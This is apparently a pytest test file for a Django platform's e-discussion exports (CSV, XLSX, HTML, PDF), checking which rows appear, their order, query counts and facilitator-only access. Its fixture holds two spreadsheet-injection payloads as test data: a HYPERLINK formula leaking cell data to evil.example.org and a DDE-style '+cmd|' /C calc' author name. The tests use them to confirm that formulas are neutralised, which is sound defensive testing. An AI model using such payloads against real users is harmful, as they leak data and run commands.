"""The facilitator's exports: every contribution as CSV and XLSX (formulas neutralised, the right
rows: those waiting for approval and split originals marked, removed ones and other
e-discussions' left out) and the document by week and question as HTML and PDF."""

import csv
import io
from datetime import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from network.community.ediscussions import services
from network.community.models import Question
from network.community.services.moderation import post_hide
from network.spreadsheets import FORMULA_TRIGGERS
from tests.community.ediscussion_dashboard_helpers import contribute, tray_contribution
from tests.community.ediscussion_helpers import running_ediscussion
from tests.factories import LocalAuthorityFactory, MembershipFactory, UserFactory
from tests.network.conftest import coordinator  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example.org/?leak="&A1,"Click")'


@pytest.fixture
def exported(coordinator):  # noqa: F811
    ediscussion = running_ediscussion(facilitator=coordinator)
    facilitator = UserFactory()
    services.facilitator_add(by=coordinator, ediscussion=ediscussion, user=facilitator)
    q1, q2 = Question.objects.filter(topic__isnull=False).order_by("number")
    official = UserFactory(first_name="Ana", last_name="Ríos")
    MembershipFactory(
        user=official, local_authority=LocalAuthorityFactory(country="CO", name="Cúcuta")
    )
    tricky = UserFactory(first_name="+cmd|' /C calc'!A0", last_name="")
    first = contribute(author=official, question=q1, source="En Cúcuta...", language="es")
    contribute(author=tricky, question=q2, source=FORMULA)
    contribute(author=UserFactory(), question=q2, source="Held text", held=True)
    hidden = contribute(author=UserFactory(), question=q1, source="Removed spam")
    post_hide(moderator=coordinator, post=hidden.post, reason="Spam")
    waiting = tray_contribution(ediscussion=ediscussion, author=UserFactory(), source="In tray")
    services.contribution_split(
        by=facilitator,
        contribution=waiting,
        parts=[
            services.SplitPart(question=q1, source="Part for one"),
            services.SplitPart(question=q2, source="Part for two"),
        ],
    )
    other = running_ediscussion(facilitator=coordinator)
    other_question = Question.objects.filter(week__ediscussion=other, topic__isnull=False).first()
    contribute(author=UserFactory(), question=other_question, source="Another e-discussion")
    return {"ediscussion": ediscussion, "facilitator": facilitator, "first": first}


def _url(name: str, ediscussion) -> str:
    return reverse(f"community:ediscussion_{name}", kwargs={"slug": ediscussion.slug})


def _csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:], newline="")))


def _assert_no_formula(cells) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in texts if cell.startswith(FORMULA_TRIGGERS)]


def test_the_csv_holds_every_contribution_marked_and_no_formula(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    response = client.get(_url("export_csv", ediscussion))
    assert response["Content-Disposition"].startswith("attachment;")
    header, *rows = _csv_rows(response)
    assert header[:4] == ["Week", "Question", "Question text", "Contribution"]
    assert header[-3:] == ["Date", "State", "Text (Markdown)"]
    by_text = {row[-1]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_text) == {
        "En Cúcuta...",
        f"'{FORMULA}",
        "Held text",
        "Part for one",
        "Part for two",
        "In tray",
    }
    first = by_text["En Cúcuta..."]
    assert (first["Week"], first["Question"], first["Author"]) == ("1", "1", "Ana Ríos")
    assert (first["Organisation"], first["Country"]) == ("Cúcuta", "Colombia")
    assert first["Language"] == "es"
    assert first["Type of organisation"] == "Local authority"
    assert first["Question text"] == "Question 1: how does your city coordinate?"
    assert first["Address"].endswith(f"/community/p/{exported['first'].post_id}/")
    assert first["State"] == "Published"
    assert by_text["Held text"]["State"] == "Waiting for approval"
    assert by_text["In tray"]["State"] == "Split into parts"
    assert by_text["In tray"]["Question"] == ""
    assert by_text[f"'{FORMULA}"]["Author"] == "'+cmd|' /C calc'!A0"
    _assert_no_formula([cell for row in rows for cell in row])
    # Ordered by week, question and date, the unassigned last.
    assert [row[1] for row in rows] == ["1", "1", "2", "2", "2", ""]


def test_the_workbook_holds_the_same_rows_typed(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    response = client.get(_url("export_xlsx", ediscussion))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header[0] == "Week" and len(rows) == 6
    texts = {row[-1] for row in rows}
    assert f"'{FORMULA}" in texts and FORMULA not in texts
    _assert_no_formula([cell for row in rows for cell in row])
    first = next(row for row in rows if row[-1] == "En Cúcuta...")
    assert (first[0], first[1]) == (1, 1)
    assert isinstance(first[header.index("Date")], datetime)


def test_the_csv_costs_the_same_queries_however_many_rows(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    url = _url("export_csv", ediscussion)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            b"".join(client.get(url).streaming_content)
        return len(captured.captured_queries)

    queries()
    before = queries()
    question = Question.objects.filter(week__ediscussion=ediscussion, topic__isnull=False).first()
    for number in range(12):
        contribute(author=UserFactory(), question=question, source=f"More {number}")
    assert queries() == before


def test_the_document_groups_contributions_by_week_and_question(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    response = client.get(_url("document", ediscussion))
    html = b"".join(response.streaming_content).decode()
    assert html.startswith("<!doctype html>") and html.rstrip().endswith("</html>")
    week = html.index("<h2>Week 1</h2>")
    question1 = html.index("<h3>Question 1: Question 1: how does your city coordinate?</h3>")
    question2 = html.index("<h3>Question 2: ")
    assert week < question1 < html.index("En Cúcuta...") < question2
    assert question2 < html.index("Part for two")
    assert "Waiting for approval" in html and "Held text" in html
    assert "Removed spam" not in html and "Another e-discussion" not in html
    assert "In tray" not in html  # the split original: its parts are there


def test_the_pdf_is_the_same_document(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    response = client.get(_url("document_pdf", ediscussion), {"week": 1})
    assert response["Content-Type"] == "application/pdf"
    assert (
        'filename="' in response["Content-Disposition"]
        and "-week-1.pdf" in (response["Content-Disposition"])
    )
    reader = PdfReader(io.BytesIO(b"".join(response.streaming_content)))
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "Part for one" in text and "Removed spam" not in text


def test_a_pdf_too_long_to_make_on_the_spot_is_refused_with_a_way_out(client, exported, settings):
    settings.EDISCUSSION_PDF_MAX_CONTRIBUTIONS = 3
    ediscussion = exported["ediscussion"]
    client.force_login(exported["facilitator"])
    response = client.get(_url("document_pdf", ediscussion), follow=True)
    assert response.redirect_chain[-1][0].endswith("/dashboard/#ed-exports")
    assert "download it week by week" in response.content.decode()
    week2 = client.get(_url("document_pdf", ediscussion), {"week": 2})
    assert week2["Content-Type"] == "application/pdf"  # 0 contributions in week 2


def test_only_facilitators_export(client, exported):
    ediscussion = exported["ediscussion"]
    client.force_login(UserFactory())
    for name in ("export_csv", "export_xlsx", "document", "document_pdf"):
        assert client.get(_url(name, ediscussion)).status_code == 403
